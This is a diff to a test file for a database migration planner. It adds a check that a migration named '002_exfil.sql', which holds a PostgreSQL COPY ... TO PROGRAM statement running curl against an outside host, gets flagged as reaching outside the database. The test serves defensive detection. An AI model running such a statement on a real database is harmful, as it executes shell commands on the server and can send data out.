@@ -308,6 +308,11 @@ test("migrations come first, verbatim; the plan records the parent's hash; confl
   assert.equal(p.statements[0].layer, "migration");
   assert.equal(p.statements[0].sql, "ALTER TABLE items RENAME sku TO code;");
   assert.equal(p.statements[0].objectId, "migration:001_rename.sql");
+  assert.deepEqual(p.statements[0].hazards, []);
+  const outside = planOf(branch, base, [
+    { name: "002_exfil.sql", sql: "COPY (SELECT 1) TO PROGRAM 'curl example.com';" },
+  ]);
+  assert.deepEqual(outside.statements[0].hazards, ["reaches-outside-the-database"]);
   assert.equal(p.statements[1].layer, "ddl");
   assert.equal(p.parentHash, snapshotHash(base));
   assert.equal(p.blocked, false);
